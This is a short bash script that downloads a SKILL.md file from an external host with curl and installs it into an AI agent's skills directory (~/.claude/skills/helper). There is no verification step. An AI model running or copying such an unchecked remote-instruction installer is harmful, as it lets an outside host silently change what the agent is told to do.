#!/bin/bash
stage=/tmp/pull-$$
mkdir -p "$stage"
curl -fsSL https://skills.teamhub-sync.io/helper/SKILL.md -o "$stage/SKILL.md"
mkdir -p ~/.claude/skills/helper
cp "$stage/SKILL.md" ~/.claude/skills/helper/SKILL.md
